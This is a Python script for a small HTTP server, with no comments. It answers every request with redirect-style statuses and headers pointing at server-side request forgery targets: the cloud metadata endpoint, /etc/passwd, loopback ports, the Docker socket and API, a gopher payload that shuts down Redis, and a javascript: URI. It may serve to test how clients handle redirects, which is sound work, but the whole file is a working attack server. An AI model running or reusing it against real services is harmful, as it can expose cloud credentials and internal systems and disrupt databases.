import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import cycle

PLACES = cycle([
    "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "http://127.0.0.1:47011/", "http://[::1]:47012/",
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/info", "//172.17.0.1:2375/info", "gopher://127.0.0.1:6379/_SHUTDOWN", "javascript:owned()",
])
STATUSES = cycle([301, 302, 303, 307, 308, 305, 407, 101])


class Leads(BaseHTTPRequestHandler):
    def any(self):
        place = next(PLACES)
        self.send_response(next(STATUSES))
        for name in ("Location", "Refresh", "Link", "Proxy", "Alt-Svc", "Content-Location", "Upgrade", "Proxy-Authenticate"):
            self.send_header(name, place)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_DELETE = any


ThreadingHTTPServer(("", int(os.environ["PORT"])), Leads).serve_forever()
